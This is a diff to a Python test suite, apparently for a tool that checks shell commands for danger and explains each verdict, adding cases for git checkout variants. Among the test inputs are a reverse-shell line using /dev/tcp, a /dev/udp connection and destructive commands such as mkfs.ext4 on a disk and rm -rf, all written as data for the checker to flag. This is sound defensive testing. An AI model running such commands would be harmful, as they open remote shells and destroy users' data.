@@ -64,6 +64,8 @@ def decided(command: str, work: Path) -> Decision:
         ("git clean -fx -- src", "deletes 1 file git does not know; /undo restores it"),
         ("git checkout -- .", "discards changes in 1 file; /undo restores it"),
         ("git checkout .", "discards changes in 1 file; /undo restores it"),
+        ("git checkout src", "discards changes in 1 file; /undo restores it"),
+        ("git checkout src/0.py a.log", "discards changes in 1 file; /undo restores it"),
         ("git restore src", "discards changes in 1 file; /undo restores it"),
         ("git restore src/1.py", "discards changes in no files"),
         ("git reset --hard", "discards changes in 1 file; /undo restores it"),
@@ -110,6 +112,7 @@ def test_each_danger_that_the_loss_does_not_tell_is_named(work: Path, command: s
 def test_nothing_is_claimed_of_what_is_not_counted(work: Path) -> None:
     for command in (
         *("rm -rf $X", "rm -rf out; shred src/1.py", "git checkout HEAD~1 -- src", "git clean -f -e x"),
+        *("git checkout main src/0.py", "git checkout -f main"),
         *("d=src; true && d=out; rm -rf $d", "d=out; for d in src; do :; done; rm -rf $d"),
     ):
         decision = decided(command, work)
@@ -158,6 +161,9 @@ def test_git_is_not_started_where_the_repository_chooses_a_program(work: Path) -
     [
         ("docker compose up", "docker acts through another process, which no sandbox contains."),
         ("sed -i s/a/b/ README.md", "sed -i rewrites files in place."),
+        ("bash -i >& /dev/tcp/192.0.2.1/80 0>&1", "The shell would connect to 192.0.2.1."),
+        ("cat < /dev/udp/example.org/53", "The shell would connect to example.org."),
+        ("git checkout main src/0.py", "git checkout main src/0.py can destroy work or change what other programs do."),
         ("mkfs.ext4 /dev/sda", "mkfs.ext4 overwrites devices or whole files."),
         ("python3 -c \"open('a', 'w').write('x')\"", "The python3 code contains \"open('a', 'w')\"."),
         ("python3 -c \"import os; os.remove('a')\"", "The python3 code contains 'os.remove'."),
